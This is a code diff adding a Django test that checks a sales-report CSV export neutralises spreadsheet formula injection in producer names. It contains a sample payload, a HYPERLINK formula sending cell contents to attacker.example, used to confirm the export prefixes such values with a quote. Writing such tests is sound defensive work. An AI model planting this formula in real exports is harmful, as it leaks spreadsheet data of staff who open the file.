@@ -178,3 +178,25 @@ def test_reports_are_refused_to_members_customers_and_anonymous(sales):
         assert customer.get(url).status_code == 302
         assert Client().get(url).status_code == 302
     assert reverse("admin:report-sales") not in member.get(reverse("admin:index")).content.decode()
+
+
+def test_sales_csv_neutralises_a_producer_name_that_is_a_spreadsheet_formula(sales):
+    """A producer named ``=HYPERLINK(...)`` must reach the staff's spreadsheet as text."""
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
+    sales["a"].name = formula
+    sales["a"].save(update_fields=["name"])
+    sales["b"].name = "-2+3"
+    sales["b"].save(update_fields=["name"])
+    sales["place"]([(sales["coffee"], 1), (sales["jam"], 1)])
+    today = timezone.localdate().isoformat()
+
+    rows = _csv(
+        _login(staff=True).get(
+            reverse("admin:report-sales"), {"start": today, "end": today, "format": "csv"}
+        )
+    )
+
+    names = sorted(row[0] for row in rows[1:])
+    assert names == sorted(["'" + formula, "'-2+3"])
+    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in rows[1:])
+    assert sorted(row[3] for row in rows[1:]) == ["150000", "90000"]  # numbers untouched
